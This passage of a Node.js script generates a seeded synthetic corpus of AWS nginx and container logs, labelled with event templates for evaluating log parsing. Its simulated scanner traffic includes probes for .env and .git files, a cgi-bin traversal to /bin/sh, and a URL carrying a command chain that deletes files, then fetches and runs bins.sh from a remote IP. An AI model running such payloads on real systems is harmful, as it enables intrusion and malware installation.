#!/usr/bin/env node
// Labelled log-template corpus: logs typical of AWS workloads, as CloudWatch Logs returns them,
// with the ground-truth event template of every line. See README.md next to this file.
//
//   node eval/logs/aws/generate.mjs
//
// regenerates every file under eval/logs/aws/<system>/ byte for byte (seeded, no dependencies,
// no clock, no locale). Each system defines its templates and the variable generators that fill
// them, so the ground truth is exact by construction; every emitted message is checked against
// its own template, and the written files are parsed back and checked before the script exits.

import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { Buffer } from 'node:buffer'
import { dirname, join } from 'node:path'
import process from 'node:process'
import { fileURLToPath } from 'node:url'
import { TextDecoder } from 'node:util'

const SEED = 20250311
const LINES = 400
const OUT = dirname(fileURLToPath(import.meta.url))
const LEVELS = ['trace', 'debug', 'info', 'notice', 'warning', 'error', 'critical']

// ---------------------------------------------------------------------------------------------
// Seeded randomness (mulberry32). Only integer arithmetic and + - * /, so the output does not
// depend on the platform's Math.log/exp.

function hash32(s) {
  let h = 0x811c9dc5
  for (const ch of s) {
    h ^= ch.codePointAt(0)
    h = Math.imul(h, 0x01000193)
  }
  return h >>> 0
}

class Rng {
  constructor(seed) {
    this.s = seed >>> 0
  }
  next() {
    this.s = (this.s + 0x6d2b79f5) >>> 0
    let t = this.s
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
  int(a, b) {
    return a + Math.floor(this.next() * (b - a + 1))
  }
  pick(a) {
    return a[Math.floor(this.next() * a.length)]
  }
  chance(p) {
    return this.next() < p
  }
  wpick(list) {
    let total = 0
    for (const [w] of list) total += w
    let x = this.next() * total
    for (const [w, v] of list) {
      x -= w
      if (x < 0) return v
    }
    return list[list.length - 1][1]
  }
  hex(n) {
    let s = ''
    for (let i = 0; i < n; i++) s += '0123456789abcdef'[Math.floor(this.next() * 16)]
    return s
  }
  alnum(n, chars = 'bcdfghjklmnpqrstvwxz2456789') {
    let s = ''
    for (let i = 0; i < n; i++) s += chars[Math.floor(this.next() * chars.length)]
    return s
  }
  uuid() {
    const h = this.hex(32)
    return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${'89ab'[this.int(0, 3)]}${h.slice(17, 20)}-${h.slice(20)}`
  }
  shuffle(a) {
    for (let i = a.length - 1; i > 0; i--) {
      const j = Math.floor(this.next() * (i + 1))
      ;[a[i], a[j]] = [a[j], a[i]]
    }
    return a
  }
  sample(a, k) {
    return this.shuffle([...a]).slice(0, k)
  }
  // A duration around `median`: a uniform body (0.4x..1.6x) and, with probability `tail`, a heavy
  // tail (2x..40x).
  dur(median, tail = 0.06) {
    const u = this.next()
    if (this.next() < tail) return median * (2 + 38 * u * u * u)
    return median * (0.4 + 1.2 * u)
  }
}

// ---------------------------------------------------------------------------------------------
// Time formats (UTC, no locale).

const MON = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec']
const pad = (n, w = 2) => String(n).padStart(w, '0')
function tp(t) {
  const d = new Date(t)
  return {
    Y: d.getUTCFullYear(),
    M: pad(d.getUTCMonth() + 1),
    Mon: MON[d.getUTCMonth()],
    D: pad(d.getUTCDate()),
    h: pad(d.getUTCHours()),
    m: pad(d.getUTCMinutes()),
    s: pad(d.getUTCSeconds()),
    ms: pad(d.getUTCMilliseconds(), 3)
  }
}
const isoMs = (t) => new Date(t).toISOString()
const isoS = (t) => new Date(t).toISOString().slice(0, 19) + 'Z'
const clf = (t) => {
  const p = tp(t)
  return `${p.D}/${p.Mon}/${p.Y}:${p.h}:${p.m}:${p.s} +0000`
}
const ymdHms = (t, sep = '-') => {
  const p = tp(t)
  return `${p.Y}${sep}${p.M}${sep}${p.D} ${p.h}:${p.m}:${p.s}`
}

// ---------------------------------------------------------------------------------------------
// Templates: `<*>` stands for one variable field, which may span several words (a user agent, an
// SQL statement, a list of addresses) and may be empty. A template is checked against the message
// by turning it into an anchored regular expression. Logfmt templates ({ kv: true }) are checked
// by key set instead, because their fields are printed in varying order.

function tplRegex(tpl) {
  const parts = tpl.split('<*>').map((s) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'))
  return new RegExp('^' + parts.join('[\\s\\S]*?') + '$')
}

function parseLogfmt(s) {
  const out = []
  let i = 0
  while (i < s.length) {
    while (s[i] === ' ') i++
    if (i >= s.length) break
    let k = ''
    while (i < s.length && s[i] !== '=' && s[i] !== ' ') k += s[i++]
    if (s[i] !== '=') return null
    i++
    let v = ''
    if (s[i] === '"') {
      i++
      while (i < s.length && s[i] !== '"') {
        if (s[i] === '\\') {
          v += s[i] + s[i + 1]
          i += 2
          continue
        }
        v += s[i++]
      }
      if (s[i] !== '"') return null
      i++
      out.push([k, v, true])
    } else {
      while (i < s.length && s[i] !== ' ') v += s[i++]
      out.push([k, v, false])
    }
  }
  return out
}

function kvMatch(tpl, msg) {
  const a = parseLogfmt(tpl)
  const b = parseLogfmt(msg)
  if (!a || !b || a.length !== b.length || a.length === 0) return false
  if (a[0][0] !== 'msg' || b[0][0] !== 'msg') return false
  if (a[a.length - 1][0] !== b[b.length - 1][0]) return false
  const byKey = new Map(b.map((x) => [x[0], x]))
  if (byKey.size !== b.length) return false
  for (const [k, v, quoted] of a) {
    const o = byKey.get(k)
    if (!o || o[2] !== quoted || !tplRegex(v).test(o[1])) return false
  }
  return true
}

// ---------------------------------------------------------------------------------------------
// Driver. A system is a list of templates and a list of episodes (one event or a short burst of
// related lines: a request with its retries, a task start, a restart). Episodes are weighted
// ({ w }), placed a fixed number of times at random points ({ n }), or anchored at fractions of
// the log ({ at }). The log is written in time order; the run stops at LINES lines (an episode
// that would overflow is replaced by single-line filler episodes, or cut, like a query window).

function runSystem(sys) {
  const r = new Rng(hash32(`${SEED}/${sys.name}`))
  const tpls = new Map()
  for (const [key, tpl, opt] of sys.templates) {
    if (tpls.has(key)) throw new Error(`${sys.name}: duplicate template key ${key}`)
    const kv = Boolean(opt && opt.kv)
    tpls.set(key, { key, tpl, kv, re: kv ? null : tplRegex(tpl), meta: opt ?? {} })
  }
  const texts = new Set()
  for (const t of tpls.values()) {
    if (texts.has(t.tpl)) throw new Error(`${sys.name}: two templates with the text ${t.tpl}`)
    texts.add(t.tpl)
  }
  const c = {
    r,
    S: {},
    t: sys.start,
    rows: [],
    meta: (k) => tpls.get(k).meta,
    tplText: (k) => tpls.get(k).tpl,
    tick(ms) {
      this.t += Math.max(1, Math.round(ms))
    },
    emit(k, lv, line, msg) {
      const t = tpls.get(k)
      if (!t) throw new Error(`${sys.name}: unknown template ${k}`)
      if (!LEVELS.includes(lv)) throw new Error(`${sys.name}: bad level ${lv} for ${k}`)
      if (/[\r\n]/.test(line)) throw new Error(`${sys.name}: line break inside a line: ${line}`)
      if (line.includes('<*>'))
        throw new Error(`${sys.name}: a template placeholder in a log line: ${line}`)
      const ok = t.kv ? kvMatch(t.tpl, msg) : t.re.test(msg)
      if (!ok)
        throw new Error(`${sys.name}: message does not match ${k}\n  tpl: ${t.tpl}\n  msg: ${msg}`)
      this.rows.push({ k, lv, line })
      this.tick(1 + this.r.int(0, sys.intra ?? 30))
    },
    out(k, lv, header, msg) {
      this.emit(k, lv, header + msg, msg)
    }
  }
  sys.init?.(c)
  const planned = []
  for (const ep of sys.episodes) {
    if (ep.at) for (const f of ep.at) planned.push({ pos: Math.round(f * LINES), ep })
    else if (ep.n) {
      for (let i = 0; i < ep.n; i++) {
        const lo = Math.floor(LINES * (ep.from ?? 0.03))
        const hi = Math.floor(LINES * (ep.to ?? 0.9))
        planned.push({ pos: r.int(lo, hi), ep })
      }
    }
  }
  planned.sort((a, b) => a.pos - b.pos)
  const weighted = sys.episodes.filter((e) => e.w).map((e) => [e.w, e])
  let pi = 0
  while (c.rows.length < LINES) {
    c.tick(sys.gap(r))
    if (pi < planned.length && planned[pi].pos <= c.rows.length) {
      planned[pi].ep.run(c)
      pi++
      continue
    }
    const mark = c.rows.length
    r.wpick(weighted).run(c)
    if (c.rows.length > LINES && sys.filler) {
      c.rows.length = mark
      while (c.rows.length < LINES) {
        c.tick(sys.gap(r))
        sys.filler(c)
      }
    }
  }
  if (pi < planned.length)
    throw new Error(`${sys.name}: ${planned.length - pi} planned episodes left out`)
  c.rows.length = LINES
  const counts = new Map()
  for (const row of c.rows) counts.set(row.k, (counts.get(row.k) ?? 0) + 1)
  const ids = new Map()
  const templates = []
  for (const t of tpls.values()) {
    if (!counts.has(t.key)) throw new Error(`${sys.name}: template ${t.key} never occurs`)
    const id = `E${templates.length + 1}`
    ids.set(t.key, id)
    templates.push({ id, tpl: t.tpl, n: counts.get(t.key) })
  }
  const rows = c.rows.map((row, i) => ({
    lineId: i + 1,
    level: row.lv,
    id: ids.get(row.k),
    tpl: tpls.get(row.k).tpl,
    line: row.line
  }))
  return { rows, templates }
}

// ---------------------------------------------------------------------------------------------
// Shared variable generators.

const UAS = [
  [
    30,
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36'
  ],
  [
    20,
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Mobile/15E148 Safari/604.1'
  ],
  [
    12,
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.2 Safari/605.1.15'
  ],
  [8, 'Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0'],
  [
    8,
    'Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/132.0.6834.163 Mobile Safari/537.36'
  ],
  [6, 'ShopApp/5.12.1 (iPhone; iOS 18.3; Scale/3.00)'],
  [6, 'okhttp/4.12.0'],
  [3, 'curl/8.5.0'],
  [3, 'python-requests/2.32.3'],
  [2, 'Go-http-client/1.1'],
  [2, 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'],
  [2, 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)'],
  [1, 'Amazon CloudFront'],
  [1, '-']
]
const ua = (r) => r.wpick(UAS)
const PUB_A = [
  3, 13, 18, 23, 24, 31, 34, 35, 37, 44, 46, 52, 54, 62, 66, 68, 71, 73, 77, 78, 81, 82, 86, 88, 91,
  92, 94, 98, 99, 104, 107, 109, 112, 118, 121, 141, 151, 162, 176, 178, 185, 188, 193, 195, 203,
  212, 213, 217
]
const pubIp = (r) => `${r.pick(PUB_A)}.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}`
const h4 = (r) => r.int(0, 0xffff).toString(16)
const ipv6 = (r) =>
  `${r.pick(['2a02:8109', '2600:1700', '2001:569', '2a01:cb00', '2406:da18', '2a00:23c7', '2607:fb91'])}:${h4(r)}:${h4(r)}:${h4(r)}:${h4(r)}:${h4(r)}:${h4(r)}`
const clientIp = (r) => (r.chance(0.12) ? ipv6(r) : pubIp(r))
const vpcIp = (r, b = [0, 15]) => `10.0.${r.int(b[0], b[1])}.${r.int(2, 250)}`
const cfEdge = (r) => `${r.pick(['130.176', '64.252', '15.158'])}.${r.int(0, 255)}.${r.int(1, 254)}`
function xffList(r) {
  const n = r.wpick([
    [60, 1],
    [25, 2],
    [10, 3],
    [5, 4]
  ])
  const l = [clientIp(r)]
  if (n >= 2)
    l.push(r.chance(0.5) ? pubIp(r) : `10.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}`)
  if (n >= 3) l.push(cfEdge(r))
  if (n >= 4) l.push(cfEdge(r))
  return l.join(', ')
}
const f3 = (x) => x.toFixed(3)
const f2 = (x) => x.toFixed(2)
const CATS = ['running-shoes', 'trail', 'jackets', 'socks', 'kids', 'sale', 'accessories', 'yoga']
const SLUGS = [
  'aero-trail-runner-2',
  'storm-shell-jacket',
  'merino-crew-socks-3-pack',
  'cloudlite-road-shoe',
  'kids-puddle-boots',
  'alpine-fleece-hoodie',
  'ultralight-running-vest',
  'recovery-slide'
]
const QUERIES = [
  'red running shoes',
  'waterproof jacket',
  'socks',
  'gift card',
  'trail shoes size 44',
  'yoga mat',
  'kids boots',
  'heart rate monitor'
]
const qenc = (s) => s.replace(/ /g, '+')

// An HTTP request to the shop API behind the reverse proxy, with what the proxy saw of it.
// up: ok (one upstream try), retry2 (first upstream failed, second answered), fail2 (both
// failed), timeout, closed (client closed, 499), none (answered by the proxy itself).
function shopRequest(r) {
  const id = () => r.int(10000, 99999)
  const kind = r.wpick([
    [20, 'products'],
    [18, 'product'],
    [12, 'cart'],
    [8, 'cartAdd'],
    [3, 'cartDel'],
    [6, 'checkout'],
    [6, 'order'],
    [8, 'search'],
    [4, 'login'],
    [10, 'page'],
    [3, 'cors'],
    [2, 'redirect'],
    [3, 'scanner'],
    [1, 'admin'],
    [1, 'head']
  ])
  const R = (m, p, st, b, up, rt, proto = 'HTTP/1.1') => ({
    req: `${m} ${p} ${proto}`,
    m,
    p,
    st,
    b,
    up,
    rt,
    user: '-'
  })
  switch (kind) {
    case 'products':
      return R(
        'GET',
        `/api/v1/products?category=${r.pick(CATS)}&page=${r.int(1, 9)}${r.chance(0.4) ? '&sort=price_asc' : ''}`,
        200,
        r.int(3000, 31000),
        'ok',
        r.dur(0.06)
      )
    case 'product': {
      const st = r.chance(0.9) ? 200 : 404
      return R(
        'GET',
        `/api/v1/products/${id()}`,
        st,
        st === 200 ? r.int(900, 5200) : 61,
        'ok',
        r.dur(0.03)
      )
    }
    case 'cart': {
      const st = r.chance(0.92) ? 200 : 401
      return R('GET', '/api/v1/cart', st, st === 200 ? r.int(200, 4000) : 48, 'ok', r.dur(0.02))
    }
    case 'cartAdd': {
      const st = r.wpick([
        [80, 201],
        [12, 400],
        [8, 409]
      ])
      return R('POST', '/api/v1/cart/items', st, r.int(60, 900), 'ok', r.dur(0.04))
    }
    case 'cartDel':
      return R('DELETE', `/api/v1/cart/items/${r.uuid()}`, 204, 0, 'ok', r.dur(0.03))
    case 'checkout': {
      const v = r.wpick([
        [74, 'ok'],
        [6, 'retry2'],
        [5, 'fail2'],
        [5, 'timeout'],
        [5, 'closed'],
        [5, '402']
      ])
      if (v === 'ok') return R('POST', '/api/v1/checkout', 200, r.int(300, 1200), 'ok', r.dur(0.45))
      if (v === '402') return R('POST', '/api/v1/checkout', 402, r.int(90, 200), 'ok', r.dur(0.6))
      if (v === 'retry2')
        return R('POST', '/api/v1/checkout', 200, r.int(300, 1200), 'retry2', r.dur(0.5))
      if (v === 'fail2') return R('POST', '/api/v1/checkout', 502, 157, 'fail2', r.dur(0.004))
      if (v === 'timeout')
        return R('POST', '/api/v1/checkout', 504, 160, 'timeout', 60 + r.next() * 0.01)
      return R('POST', '/api/v1/checkout', 499, 0, 'closed', 2 + r.next() * 8)
    }
    case 'order': {
      const st = r.chance(0.88) ? 200 : 404
      return R(
        'GET',
        `/api/v1/orders/${r.int(900000, 999999)}`,
        st,
        st === 200 ? r.int(700, 2600) : 61,
        'ok',
        r.dur(0.03)
      )
    }
    case 'search':
      return R(
        'GET',
        `/api/v1/search?q=${qenc(r.pick(QUERIES))}&limit=24`,
        200,
        r.int(2000, 40000),
        'ok',
        r.dur(0.12, 0.1)
      )
    case 'login': {
      const st = r.wpick([
        [75, 200],
        [20, 401],
        [5, 429]
      ])
      return R(
        'POST',
        '/api/v1/auth/login',
        st,
        st === 200 ? r.int(700, 900) : 72,
        st === 429 ? 'none' : 'ok',
        r.dur(0.09)
      )
    }
    case 'page': {
      const p = r.chance(0.3) ? '/' : `/products/${r.pick(SLUGS)}`
      return R('GET', p, 200, r.int(14000, 90000), 'ok', r.dur(0.08))
    }
    case 'cors':
      return R('OPTIONS', '/api/v1/cart/items', 204, 0, 'none', 0)
    case 'redirect':
      return R('GET', '/account', 302, 0, 'ok', r.dur(0.01))
    case 'head':
      return R('HEAD', '/', 200, 0, 'ok', r.dur(0.02))
    case 'admin': {
      const ok = r.chance(0.6)
      const x = R(
        'GET',
        '/admin/metrics',
        ok ? 200 : 401,
        ok ? r.int(1500, 4000) : 179,
        ok ? 'ok' : 'none',
        ok ? r.dur(0.01) : 0
      )
      if (ok) x.user = 'ops'
      return x
    }
    default: {
      const s = r.wpick([
        [5, ['GET', '/.env', 404, 'HTTP/1.1']],
        [4, ['GET', '/wp-login.php', 404, 'HTTP/1.1']],
        [3, ['GET', '/.git/config', 403, 'HTTP/1.1']],
        [2, ['GET', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 404, 'HTTP/1.1']],
        [2, ['POST', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', 400, 'HTTP/1.1']],
        [
          2,
          [
            'GET',
            '/shell?cd+/tmp;rm+-rf+*;wget+http://185.225.74.55/bins.sh;chmod+777+bins.sh;sh+bins.sh',
            404,
            'HTTP/1.0'
          ]
        ],
        [2, ['RAW', '\\x16\\x03\\x01\\x00\\xEE\\x01\\x00\\x00\\xEA\\x03\\x03', 400, '']],
        [2, ['RAW', '', 400, '']],
        [1, ['RAW', 'SSH-2.0-Go', 400, '']]
      ])
      if (s[0] === 'RAW')
        return {
          req: s[1],
          m: '',
          p: s[1],
          st: s[2],
          b: 157,
          up: 'none',
          rt: r.chance(0.5) ? 0 : r.next() * 0.2,
          user: '-'
        }
      return R(s[0], s[1], s[2], s[2] === 404 ? 153 : 157, 'none', 0, s[3])
    }
  }
}

// ---------------------------------------------------------------------------------------------
// nginx-access: an nginx reverse proxy on ECS (Fargate) behind an ALB; the log group holds the
// container's stdout, routed by FireLens: access lines in four log formats, plus the official
// image's entrypoint messages at each container start.

function nginxAccess() {
  const T = [
    ['main', '"<*>" <*> <*> "<*>" "<*>" "<*>" rt=<*> uct="<*>" uht="<*>" urt="<*>"'],
    ['combined', '"<*>" <*> <*> "<*>" "<*>"'],
    ['health', '"<*>" <*> <*> "<*>"'],
    [
      'json',
      '{"time":"<*>","remote_addr":"<*>","request":"<*>","status":<*>,"bytes":<*>,"request_time":<*>,"upstream":"<*>","upstream_time":"<*>","ua":"<*>"}'
    ],
    // entrypoint lines: the script's name tag (and 'info: ') is the header
    ['ep_notempty', '<*> is not empty, will attempt to perform configuration'],
    ['ep_looking', 'Looking for shell scripts in <*>'],
    ['ep_launching', 'Launching <*>'],
    ['ep_checksum', 'Getting the checksum of <*>'],
    ['ep_differs', '<*> differs from the packaged version'],
    ['ep_enabled', 'Enabled listen on IPv6 in <*>'],
    ['ep_sourcing', 'Sourcing <*>'],
    ['ep_envsubst', 'Running envsubst on <*> to <*>'],
    ['ep_complete', 'Configuration complete; ready for start up']
  ]
  const alb = (r) => `10.0.${r.pick([1, 2, 3])}.${r.int(10, 250)}`
  const upTimes = (r, x) => {
    const uct = () => f3(r.int(0, 4) / 1000)
    switch (x.up) {
      case 'ok': {
        const urt = Math.max(0.001, x.rt - r.int(0, 2) / 1000)
        return [uct(), f3(Math.max(0.001, urt - r.int(0, 3) / 1000)), f3(urt)]
      }
      case 'retry2': {
        const b = x.rt - 0.002
        return [`0.000, ${uct()}`, `-, ${f3(b - 0.001)}`, `0.001, ${f3(b)}`]
      }
      case 'fail2':
        return ['0.000, 0.000', '-, -', '0.001, 0.000']
      case 'timeout':
        return [uct(), '-', f3(x.rt - 0.001)]
      case 'closed':
        return [uct(), '-', f3(x.rt)]
      default:
        return ['-', '-', '-']
    }
  }
  const referer = (r, x) =>
    x.up === 'none' && x.m !== 'OPTIONS'
      ? '-'
      : r.wpick([
          [50, '-'],
          [25, 'https://shop.example.com/'],
          [15, `https://shop.example.com/products/${r.pick(SLUGS)}`],
          [6, 'https://www.google.com/'],
          [4, `https://shop.example.com/search?q=${qenc(r.pick(QUERIES))}`]
        ])
  function main(c) {
    const r = c.r
    const x = shopRequest(r)
    const [uct, uht, urt] = upTimes(r, x)
    // malformed requests (TLS on the plain port, empty lines) come in through the NLB listener:
    // no X-Forwarded-For, the peer is the client
    const raw = x.m === ''
    const msg = `"${x.req}" ${x.st} ${x.b} "${referer(r, x)}" "${raw ? '-' : ua(r)}" "${raw ? '-' : xffList(r)}" rt=${f3(x.rt)} uct="${uct}" uht="${uht}" urt="${urt}"`
    c.out('main', 'info', `${raw ? pubIp(r) : alb(r)} - ${x.user} [${clf(c.t)}] `, msg)
  }
  function combined(c) {
    const r = c.r
    const a = r.wpick([
      [
        30,
        [
          `/assets/js/${r.pick(['app', 'vendor', 'checkout'])}.${c.S.build}.js`,
          () => r.int(90000, 260000)
        ]
      ],
      [20, [`/assets/css/main.${c.S.build}.css`, () => r.int(20000, 60000)]],
      [
        30,
        [
          `/images/products/${r.int(1000, 9999)}-${r.pick([400, 800, 1200])}w.webp`,
          () => r.int(8000, 120000)
        ]
      ],
      [6, ['/favicon.ico', () => 0]],
      [4, ['/robots.txt', () => 68]],
      [3, ['/apple-touch-icon.png', () => 0]]
    ])
    let st =
      a[0] === '/favicon.ico' || a[0] === '/apple-touch-icon.png' ? 404 : r.chance(0.25) ? 304 : 200
    const b = st === 304 ? 0 : st === 404 ? 153 : a[1]()
    const ref =
      a[0].startsWith('/assets') || a[0].startsWith('/images')
        ? r.pick([
            'https://shop.example.com/',
            `https://shop.example.com/products/${r.pick(SLUGS)}`
          ])
        : '-'
    c.out(
      'combined',
      'info',
      `${alb(r)} - - [${clf(c.t)}] `,
      `"GET ${a[0]} HTTP/1.1" ${st} ${b} "${ref}" "${ua(r)}"`
    )
  }
  function health(c) {
    const r = c.r
    const slow = r.chance(0.03)
    c.out(
      'health',
      'info',
      `${alb(r)} [${clf(c.t)}] `,
      `"GET /healthz HTTP/1.1" 200 ${slow ? f3(0.2 + r.next()) : f3(r.int(0, 1) / 1000)} "ELB-HealthChecker/2.0"`
    )
  }
  function json(c) {
    const r = c.r
    const p = r.chance(0.7) ? '/nginx_status' : '/metrics'
    const up = p === '/metrics' ? `127.0.0.1:${9113}` : ''
    const rt = p === '/metrics' ? f3(r.int(1, 9) / 1000) : '0.000'
    c.out(
      'json',
      'info',
      '',
      `{"time":"${isoS(c.t).replace('Z', '+00:00')}","remote_addr":"10.0.5.${r.int(10, 40)}","request":"GET ${p} HTTP/1.1","status":200,"bytes":${p === '/metrics' ? r.int(4000, 5000) : r.int(95, 99)},"request_time":${rt},"upstream":"${up}","upstream_time":"${up ? rt : ''}","ua":"Prometheus/2.53.1"}`
    )
  }
  const ep = (c, k, line) => {
    const m = /^(\S+\.sh: (?:info: )?)(.*)$/.exec(line)
    c.out(k, 'info', m[1], m[2])
  }
  function startup(variant) {
    return (c) => {
      c.S.build = c.r.hex(8)
      const E = '/docker-entrypoint.sh: '
      const V6 = '10-listen-on-ipv6-by-default.sh: info: '
      const conf = '/etc/nginx/conf.d/default.conf'
      ep(
        c,
        'ep_notempty',
        `${E}/docker-entrypoint.d/ is not empty, will attempt to perform configuration`
      )
      ep(c, 'ep_looking', `${E}Looking for shell scripts in /docker-entrypoint.d/`)
      ep(c, 'ep_launching', `${E}Launching /docker-entrypoint.d/10-listen-on-ipv6-by-default.sh`)
      ep(c, 'ep_checksum', `${V6}Getting the checksum of ${conf}`)
      if (variant === 'packaged') ep(c, 'ep_enabled', `${V6}Enabled listen on IPv6 in ${conf}`)
      else ep(c, 'ep_differs', `${V6}${conf} differs from the packaged version`)
      ep(c, 'ep_sourcing', `${E}Sourcing /docker-entrypoint.d/15-local-resolvers.envsh`)
      ep(c, 'ep_launching', `${E}Launching /docker-entrypoint.d/20-envsubst-on-templates.sh`)
      for (const t of variant === 'packaged' ? ['status'] : ['default', 'status'])
        ep(
          c,
          'ep_envsubst',
          `20-envsubst-on-templates.sh: Running envsubst on /etc/nginx/templates/${t}.conf.template to /etc/nginx/conf.d/${t}.conf`
        )
      ep(c, 'ep_launching', `${E}Launching /docker-entrypoint.d/30-tune-worker-processes.sh`)
      ep(c, 'ep_complete', `${E}Configuration complete; ready for start up`)
      c.tick(1500)
    }
  }
  return {
    name: 'nginx-access',
    start: Date.UTC(2025, 2, 11, 9, 0, 0),
    gap: (r) => r.int(20, 2600),
    intra: 5,
    templates: T,
    filler: main,
    episodes: [
      { at: [0], run: startup('custom') },
      { at: [0.41], run: startup('custom') },
      { at: [0.78], run: startup('packaged') },
      { w: 70, run: main },
      {
        w: 6,
        run: (c) => {
          // a page view: the document through the proxy, then its assets from the static vhost
          main(c)
          for (let i = c.r.int(1, 3); i > 0; i--) combined(c)
        }
      },
      { w: 6, run: combined },
      { w: 11, run: health },
      { n: 6, run: json }
    ]
  }
}

// ---------------------------------------------------------------------------------------------
// nginx-error: the same proxy's error log (stderr, its own log group).

function nginxError() {
  const CTX = ', client: <*>, server: <*>, request: "<*>"<*>'
  const T = [
    [
      'up_timeout_read',
      'error',
      '*<*> upstream timed out (110: Connection timed out) while reading response header from upstream' +
        CTX
    ],
    [
      'up_timeout_conn',
      'error',
      '*<*> upstream timed out (110: Connection timed out) while connecting to upstream' + CTX
    ],
    [
      'conn_refused',
      'error',
      '*<*> connect() failed (111: Connection refused) while connecting to upstream' + CTX
    ],
    [
      'net_unreach',
      'error',
      '*<*> connect() to <*> failed (101: Network is unreachable) while connecting to upstream' +
        CTX
    ],
    [
      'up_closed',
      'error',
      '*<*> upstream prematurely closed connection while reading response header from upstream' +
        CTX
    ],
    [
      'up_reset',
      'error',
      '*<*> recv() failed (104: Connection reset by peer) while reading response header from upstream' +
        CTX
    ],
    ['no_live', 'error', '*<*> no live upstreams while connecting to upstream' + CTX],
    [
      'up_disabled',
      'warn',
      '*<*> upstream server temporarily disabled while reading response header from upstream' + CTX
    ],
    [
      'big_header',
      'error',
      '*<*> upstream sent too big header while reading response header from upstream' + CTX
    ],
    [
      'buf_up',
      'warn',
      '*<*> an upstream response is buffered to a temporary file <*> while reading upstream' + CTX
    ],
    ['buf_client', 'warn', '*<*> a client request body is buffered to a temporary file <*>' + CTX],
    ['too_large', 'error', '*<*> client intended to send too large body: <*> bytes' + CTX],
    ['open_failed', 'error', '*<*> open() "<*>" failed (2: No such file or directory)' + CTX],
    ['not_found', 'error', '*<*> "<*>" is not found (2: No such file or directory)' + CTX],
    ['dir_forbidden', 'error', '*<*> directory index of "<*>" is forbidden' + CTX],
    ['forbidden', 'error', '*<*> access forbidden by rule' + CTX],
    ['limiting', 'error', '*<*> limiting requests, excess: <*> by zone "<*>"' + CTX],
    ['delaying', 'warn', '*<*> delaying request, excess: <*>, by zone "<*>"' + CTX],
    ['limit_conn', 'error', '*<*> limiting connections by zone "<*>"' + CTX],
    [
      'ssl_hs',
      'crit',
      '*<*> SSL_do_handshake() failed (SSL: <*>) while SSL handshaking, client: <*>, server: <*>'
    ],
    [
      'client_timeout',
      'info',
      '*<*> client timed out (110: Connection timed out) while waiting for request, client: <*>, server: <*>'
    ],
    ['keepalive', 'info', '*<*> client <*> closed keepalive connection'],
    [
      'keepalive_reset',
      'info',
      '*<*> client <*> closed keepalive connection (104: Connection reset by peer)'
    ],
    [
      'client_prem',
      'info',
      '*<*> epoll_wait() reported that client prematurely closed connection, so upstream connection is closed too while sending request to upstream' +
        CTX
    ],
    ['writev', 'info', '*<*> writev() failed (32: Broken pipe) while sending to client' + CTX],
    ['resolve', 'error', '*<*> <*> could not be resolved (<*>)'],
    ['epoll', 'notice', 'using the "epoll" event method'],
    ['version', 'notice', 'nginx/<*>'],
    ['built', 'notice', 'built by <*>'],
    ['os', 'notice', 'OS: <*>'],
    ['rlimit', 'notice', 'getrlimit(RLIMIT_NOFILE): <*>'],
    ['start_workers', 'notice', 'start worker processes'],
    ['start_worker', 'notice', 'start worker process <*>'],
    [
      'types_hash',
      'warn',
      'could not build optimal types_hash, you should increase either types_hash_max_size: <*> or types_hash_bucket_size: <*>; ignoring types_hash_bucket_size'
    ],
    ['conflicting', 'warn', 'conflicting server name "<*>" on <*>, ignored'],
    ['sig_reconf', 'notice', 'signal <*> (<*>) received from <*>, reconfiguring'],
    ['reconf', 'notice', 'reconfiguring'],
    ['sig_shutdown', 'notice', 'signal <*> (<*>) received from <*>, shutting down'],
    ['sig_child', 'notice', 'signal <*> (<*>) received from <*>'],
    ['graceful', 'notice', 'gracefully shutting down'],
    ['exiting', 'notice', 'exiting'],
    ['exit', 'notice', 'exit'],
    ['exited_code', 'notice', 'worker process <*> exited with code <*>'],
    ['exited_signal', 'alert', 'worker process <*> exited on signal <*>'],
    ['emerg_host', 'emerg', 'host not found in upstream "<*>" in <*>']
  ]
  const NGX_LEVEL = {
    debug: 'debug',
    info: 'info',
    notice: 'notice',
    warn: 'warning',
    error: 'error',
    crit: 'critical',
    alert: 'critical',
    emerg: 'critical'
  }
  const lvOf = new Map(T.map(([k, lv]) => [k, lv]))
  const w = (c, k, pid, msg) => {
    const lv = lvOf.get(k)
    c.out(k, NGX_LEVEL[lv], `${ymdHms(c.t, '/')} [${lv}] ${pid}#${pid}: `, msg)
  }
  const cid = (c) => {
    c.S.cid += c.r.int(1, 900)
    return c.S.cid
  }
  const worker = (c) => c.r.pick(c.S.workers)
  const upstreamAddr = (r) => `10.0.${r.int(10, 13)}.${r.int(2, 250)}:8080`
  function ctx(c, x, opt = {}) {
    const r = c.r
    const server =
      opt.server ?? (x.p.startsWith('/api') ? 'api.shop.example.com' : 'shop.example.com')
    let s = `, client: ${opt.client ?? clientIp(r)}, server: ${server}, request: "${x.req}"`
    if (opt.upstream !== false && x.up !== 'none')
      s += `, upstream: "http://${opt.upstreamAddr ?? upstreamAddr(r)}${x.p}"`
    if (r.chance(0.95)) s += `, host: "${server}"`
    if (r.chance(opt.refP ?? 0.3))
